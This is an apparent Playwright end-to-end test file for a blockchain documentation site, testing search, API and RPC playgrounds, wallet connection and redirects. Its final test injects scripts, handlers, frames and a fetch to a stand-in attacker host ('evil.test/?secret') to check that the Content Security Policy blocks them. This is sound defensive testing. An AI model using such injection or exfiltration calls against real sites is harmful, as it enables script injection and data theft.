import {skipReason} from '../site/nginx';
import {expect, test} from './policy';
import {completeSuggestions} from './searchBox';
import {
  mockResponses,
  waitForHydration,
  open,
  replyJson,
  replyRpc,
} from './support';
import {installWallets} from './wallets';

test.skip(Boolean(skipReason), skipReason);
test.describe.configure({timeout: 180_000});

test('the search shows suggestions, opens a result and highlights the search terms', async ({
  monitoredPage: page,
}) => {
  await open(page, '/');
  const box = page.getByRole('combobox', {name: 'Search', exact: true});
  await box.click();
  await box.pressSequentially('finality');
  await expect(completeSuggestions(page)).toBeVisible({timeout: 30_000});
  await page.getByRole('option').first().click();
  await expect(page.locator('article mark').first()).toBeVisible();
});

test('the API explorer sends its request', async ({monitoredPage: page}) => {
  const calls = await mockResponses(
    page,
    'https://token-api.linea.build/**',
    replyJson({
      data: [],
      meta: {page: 1, limit: 50, totalItemsCount: 0, pagesCount: 0},
    }),
  );
  await open(page, '/api/token-api/reference/operations/get-tokens');
  const panel = page.getByRole('region', {name: 'Try it'});
  await panel.scrollIntoViewIfNeeded();
  await panel.getByRole('tab', {name: 'Python', exact: true}).click();
  await panel.getByLabel('order').selectOption('swaps');
  await panel.getByRole('button', {name: 'Send API Request'}).click();
  await expect(panel.getByText('"totalItemsCount": 0')).toBeVisible();
  expect(calls).toHaveLength(1);
});

test('the playground calls public endpoints and a custom URL, even after navigation from another page', async ({
  monitoredPage: page,
}) => {
  const reply = replyRpc({
    result: {
      baseFeePerGas: '0x7',
      gasLimit: '0x5208',
      priorityFeePerGas: '0x43a82a4',
    },
  });
  const customUrls = [
    'https://custom.test/v3/key',
    'http://localhost:8545/',
    'http://127.0.0.1:8545/',
  ];
  const calls = await Promise.all(
    [
      'https://rpc.linea.build/',
      'https://rpc.sepolia.linea.build/',
      ...customUrls,
    ].map((url) => mockResponses(page, url, reply)),
  );
  await open(page, '/api/reference');
  await page
    .getByRole('main')
    .locator('a[href="/api/reference/linea-estimategas"]')
    .first()
    .click();
  const panel = page.getByRole('region', {name: /^Playground for/});
  await panel.getByRole('button', {name: 'Try linea_estimateGas'}).click();
  for (const [endpoint, url] of [
    ['Linea Mainnet, public endpoint'],
    ['Linea Sepolia, public endpoint'],
    ...customUrls.map((customUrl) => ['My own URL', customUrl] as const),
  ] as const) {
    await panel
      .getByRole('combobox', {name: 'Endpoint'})
      .selectOption({label: endpoint});
    if (url) await panel.getByRole('textbox', {name: /URL/}).fill(url);
    await panel.getByRole('button', {name: 'Send'}).click();
    await expect(panel.getByRole('status')).toContainText('Success.');
  }
  expect(calls.map(({length}) => length)).toEqual([1, 1, 1, 1, 1]);
});

test('a wallet’s icon is shown, and the wallet is asked to add the network', async ({
  monitoredPage: page,
}) => {
  const icon = 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"/>';
  await installWallets(page, [
    {name: 'Fox', icon},
    {name: 'Bear', icon},
  ]);
  await open(page, '/get-started/connect');
  await page.getByRole('button', {name: 'Add Linea Sepolia'}).click();
  await expect(
    page.getByRole('group', {name: 'Wallets in this browser'}).locator('img'),
  ).toHaveCount(2);
  await page.getByRole('button', {name: 'Fox'}).click();
  await expect(
    page.getByText('Linea Sepolia was added to Fox and selected.'),
  ).toBeVisible();
});

test('copying and client-side redirects work', async ({
  monitoredPage: page,
  context,
  baseURL,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await open(page, '/get-started/build/network-info');
  await page
    .getByRole('main')
    .getByRole('button', {name: /copy/i})
    .first()
    .click();
  await expect
    .poll(() => page.evaluate(() => navigator.clipboard.readText()))
    .not.toBe('');
  // nginx redirects by itself, so serve the redirect page that is meant for other hosts.
  const policy =
    (await page.request.get(`${baseURL}/`)).headers()[
      'content-security-policy'
    ] ?? '';
  await page.route(
    ({pathname}) => pathname === '/architecture',
    (route) =>
      route.fulfill({
        path: 'build/architecture/index.html',
        headers: {'content-security-policy': policy},
      }),
  );
  await page.goto('/architecture?a=b#the-map', {waitUntil: 'commit'});
  await page.waitForURL('/technology/architecture?a=b#the-map');
  await waitForHydration(page);
});

test.describe('the policy blocks attacks', () => {
  test('injected scripts, event handlers, requests, frames and styles have no effect', async ({
    page,
  }) => {
    const thirdPartyRequests = await mockResponses(
      page,
      'https://evil.test/**',
      (route) => route.abort(),
    );
    await open(page, '/get-started');
    await page.evaluate(async () => {
      const blockedDirectives: string[] = [];
      Object.assign(window, {blockedDirectives});
      document.addEventListener(
        'securitypolicyviolation',
        ({effectiveDirective}) => blockedDirectives.push(effectiveDirective),
      );
      const inline = document.createElement('script');
      inline.textContent = 'window.hit = 1';
      const remote = document.createElement('script');
      remote.src = 'https://evil.test/x.js';
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.hit = 2');
      image.src = '/img/none.png';
      const imageError = new Promise((resolve) =>
        image.addEventListener('error', resolve),
      );
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.test/';
      const base = document.createElement('base');
      base.href = 'https://evil.test/';
      const style = document.createElement('style');
      style.textContent = 'body { display: none }';
      document.body.append(inline, remote, image, frame, base, style);
      await fetch('https://evil.test/?secret').catch(() => undefined);
      // Run in a separate task, because the browser exempts code evaluated by the test from the policy.
      // eslint-disable-next-line @typescript-eslint/no-implied-eval -- the policy must block this
      setTimeout('window.hit = 3');
      await imageError;
    });
    await expect
      .poll(() =>
        page.evaluate(() =>
          [
            ...new Set(Reflect.get(window, 'blockedDirectives') as string[]),
          ].sort(),
        ),
      )
      .toEqual([
        'base-uri',
        'connect-src',
        'frame-src',
        'script-src',
        'script-src-attr',
        'script-src-elem',
        'style-src-elem',
      ]);
    expect(
      await page.evaluate(() => Reflect.get(window, 'hit')),
    ).toBeUndefined();
    expect(thirdPartyRequests).toEqual([]);
  });
});
